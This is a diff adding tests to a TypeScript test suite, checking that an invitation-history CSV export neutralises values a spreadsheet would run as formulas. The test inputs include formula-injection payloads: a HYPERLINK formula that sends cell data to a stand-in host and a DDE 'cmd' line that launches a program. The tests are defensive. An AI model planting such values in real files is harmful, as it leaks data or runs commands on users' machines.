@@ -4,6 +4,7 @@ import { acceptInvitation } from '../../src/commands/acceptInvitations.js';
 import { ignoreInvitation } from '../../src/commands/ignoreInvitations.js';
 import { sendInvitation } from '../../src/commands/sendInvitation.js';
 import { withdrawInvitation } from '../../src/commands/withdrawInvitation.js';
+import { csvLines } from '../../src/csv.js';
 import { createTestApp, DAY, expectProblem, type TestApp, type TestMember } from '../helpers/app.js';
 
 let t: TestApp;
@@ -192,6 +193,37 @@ describe('I10 contact history (CSV)', () => {
     const lines = (await t.api('GET', '/invitations/history?format=csv', me)).body.split('\r\n');
     expect(lines[1]).toContain(',B,plain words,');
     expect(lines[2]).toContain(',A,"one\rtwo",');
+  });
+
+  it('I10 a name or note a spreadsheet would run as a formula gets a leading quote in CSV, and stays exact in JSON', async () => {
+    const names = [
+      '=HYPERLINK("http://x.test/?leak="&A1,"click")',
+      "+cmd|' /C calc'!A0",
+      '@SUM(1+1)',
+      '-2+3',
+    ];
+    const me = await t.signUp('Me');
+    const others = await Promise.all(names.map((n) => t.signUp(n)));
+    const notes = ['=1+2', '+44 20 7946 0000', '@here', 'fine = text'];
+    for (const [i, other] of others.entries()) {
+      t.clock.advance(1000);
+      await invite(me, other, notes[i]);
+    }
+    const res = await t.api('GET', '/invitations/history?format=csv', me);
+    const rows = res.body.split('\r\n').slice(1, -1).reverse();
+    expect(rows[0]).toContain(`,"'=HYPERLINK(""http://x.test/?leak=""&A1,""click"")",'=1+2,`);
+    expect(rows[1]).toContain(`,'+cmd|' /C calc'!A0,'+44 20 7946 0000,`);
+    expect(rows[2]).toContain(`,'@SUM(1+1),'@here,`);
+    expect(rows[3]).toContain(`,'-2+3,fine = text,`);
+
+    const json = (await t.api('GET', '/invitations/history', me)).json();
+    const items = [...json.items].reverse() as { recipient: { name: string }; message: string }[];
+    expect(items.map((i) => i.recipient.name)).toEqual(names);
+    expect(items.map((i) => i.message)).toEqual(notes);
+  });
+
+  it('CSV fields starting with a tab or a carriage return are neutralised too (notes are trimmed, so only other CSVs meet them)', () => {
+    expect(csvLines([['\tx', '\ry', 'a-b', '']])).toBe(`'\tx,"'\ry",a-b,\r\n`);
   });
 
   it('I10 the CSV holds every invitation, not one page, and a member with none gets the header only', async () => {
